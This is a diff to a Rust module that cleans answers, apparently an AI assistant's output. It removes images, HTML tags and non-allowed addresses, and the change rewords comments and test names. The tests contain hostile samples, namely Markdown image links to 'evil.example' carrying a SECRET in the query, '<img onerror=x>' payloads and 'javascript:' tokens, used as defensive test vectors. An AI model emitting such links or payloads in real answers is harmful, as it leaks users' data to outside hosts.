@@ -1,4 +1,4 @@
-//! An answer, cleaned as a whole.
+//! Cleans a complete answer.
 
 use super::allowed::Allowed;
 use super::removed::Removed;
@@ -7,13 +7,13 @@ use super::screen::Screen;
 /// A cleaned answer.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Cleaned {
-    /// What is left of it.
+    /// The text that is left.
     pub text: String,
-    /// What is not, in order.
+    /// What was removed, in order.
     pub removed: Vec<Removed>,
 }
 
-/// An answer without pictures, tags of HTML, and addresses that are not allowed: the same that a [`Screen`] passes on.
+/// Removes images, HTML tags and forbidden addresses from an answer. Returns exactly what a [`Screen`] emits.
 pub fn clean_answer(text: &str, allowed: Allowed) -> Cleaned {
     let mut screen = Screen::new(allowed);
     let mut clean = screen.feed(text);
@@ -37,7 +37,7 @@ mod tests {
     }
 
     #[test]
-    fn ordinary_answers_stay_as_they_are() {
+    fn ordinary_answers_are_unchanged() {
         for plain in [
             "The notice is 30 days [1][2]. See [a.md].",
             "Use `Vec<u8>` or Option<T>, if a < b && c > d.\n\n```rust\nlet x: Vec<u8> = vec![1](2); // a <b>\n```\nDone!",
@@ -51,7 +51,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_foreign_goes_and_what_it_said_stays() {
+    fn foreign_addresses_are_removed_and_their_text_is_kept() {
         for (said, left) in [
             ("A ![pic](https://evil.example/?q=x) b", "A pic b"),
             ("![pic](https://docs.example/a)", "pic"),
@@ -91,7 +91,7 @@ mod tests {
     }
 
     #[test]
-    fn every_reader_ends_an_address_where_it_ends() {
+    fn all_readers_end_an_address_at_the_same_place() {
         const A: &str = "https://docs.example/a";
         let text = format!("See {A} and www.docs.example/b, write to u@docs.example.");
         let allowed = Allowed::of(&[hit("a.md", &text)], |_| false);
@@ -134,7 +134,7 @@ mod tests {
     }
 
     #[test]
-    fn code_that_is_code_to_some_alone_hides_nothing() {
+    fn text_that_only_some_readers_take_for_code_is_cleaned() {
         for said in [
             "a ` b\n`<img onerror=x>`",
             "\\`<img onerror=x>`",
@@ -159,7 +159,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_removed_from_code_closes_no_block() {
+    fn a_removal_within_code_closes_no_block() {
         for (said, left) in [
             ("~~~\nevil.example/x~~~\n<img onerror=x>", "~~~\n~~~\n"),
             ("```\nhttps://evil.example/x ```\n<img onerror=x>", "```\n ```\n"),
@@ -170,7 +170,7 @@ mod tests {
     }
 
     #[test]
-    fn an_address_in_the_first_line_of_a_code_block_goes() {
+    fn a_foreign_address_in_an_info_string_is_removed() {
         for (said, left) in [
             ("```https://evil.example/?q=SECRET\nx\n```", "```\nx\n```"),
             ("~~~rust https://evil.example/SECRET\nx\n~~~", "~~~rust \nx\n~~~"),
@@ -183,7 +183,7 @@ mod tests {
     }
 
     #[test]
-    fn code_stays_closed_where_something_behind_it_is_removed() {
+    fn code_stays_closed_when_text_after_it_is_removed() {
         for (said, left) in [
             ("`<img onerror=x>`&https://evil.example/x`", "`<img onerror=x>` `"),
             ("`<img onerror=x>`<b>`", "`<img onerror=x>` `"),
@@ -198,7 +198,7 @@ mod tests {
     }
 
     #[test]
-    fn a_screen_holds_nothing_back_for_ever() {
+    fn a_screen_holds_back_a_bounded_amount() {
         for endless in [
             "a",
             "[",
@@ -226,14 +226,14 @@ mod tests {
         }
     }
 
-    /// Pieces that mean something to a reader of Markdown or HTML.
+    /// Tokens with a meaning in Markdown or HTML.
     const PIECES: &str = "(!|\\[|\\]|\\(|\\)|<|>|`|```|~~~|\n|\n\n| |b|img onerror=x|https://|//|evil\\.example/x|www\\.|\\.zz|https://docs\\.example/a|ch04\\.html|javascript:|&#58;|%3A|\\\\|\\||\"|- |> |1|:|&|\u{200B}|é|T){0,24}";
 
     proptest! {
         #![proptest_config(ProptestConfig::with_cases(ProptestConfig::default().cases * 16))]
 
         #[test]
-        fn what_a_screen_passes_on_is_the_clean_answer(text in PIECES, sizes in prop::collection::vec(1usize..9, 1..20)) {
+        fn a_screen_emits_the_clean_answer_for_any_split(text in PIECES, sizes in prop::collection::vec(1usize..9, 1..20)) {
             let mut screen = Screen::new(allowed());
             let letters: Vec<char> = text.chars().collect();
             let (mut passed, mut at) = (String::new(), 0);
@@ -250,13 +250,13 @@ mod tests {
         }
 
         #[test]
-        fn what_is_clean_stays_so(text in PIECES) {
+        fn cleaning_is_idempotent(text in PIECES) {
             let once = clean(&text);
             prop_assert_eq!(clean(&once), once);
         }
 
         #[test]
-        fn no_reader_takes_anything_along(text in "(\\[|\\]|\\(|\\)|<|>|\n| |b|\"|'|\\||1|&|é|[.,:;!?*_]|https://docs\\.example/a|https://docs\\.example/a){0,24}") {
+        fn no_reader_extends_an_allowed_address(text in "(\\[|\\]|\\(|\\)|<|>|\n| |b|\"|'|\\||1|&|é|[.,:;!?*_]|https://docs\\.example/a|https://docs\\.example/a){0,24}") {
             const A: &str = "https://docs.example/a";
             let left = clean(&text);
             for (at, _) in left.match_indices(A) {
@@ -264,7 +264,7 @@ mod tests {
                 let bracketed = before.ends_with('<') && !before.ends_with("\\<") && behind.starts_with('>');
                 let linked = before.ends_with("](") && behind.starts_with(')');
                 let word = behind.split(char::is_whitespace).next().unwrap_or_default();
-                // A mark at the end of a sentence, or a bracket first.
+                // Punctuation at the end of a sentence, or a bracket first.
                 let mark = word.chars().next().filter(|mark| ".,;!?".contains(*mark));
                 let ends = word.is_empty()
                     || word.starts_with(')')
@@ -274,7 +274,7 @@ mod tests {
         }
 
         #[test]
-        fn no_foreign_address_is_left(text in PIECES) {
+        fn no_foreign_address_remains(text in PIECES) {
             let left = clean(&text);
             prop_assert!(!left.contains("https://evil"), "{:?} leaves {:?}", text, left);
             prop_assert!(!left.contains("evil.example/x"), "{:?} leaves {:?}", text, left);
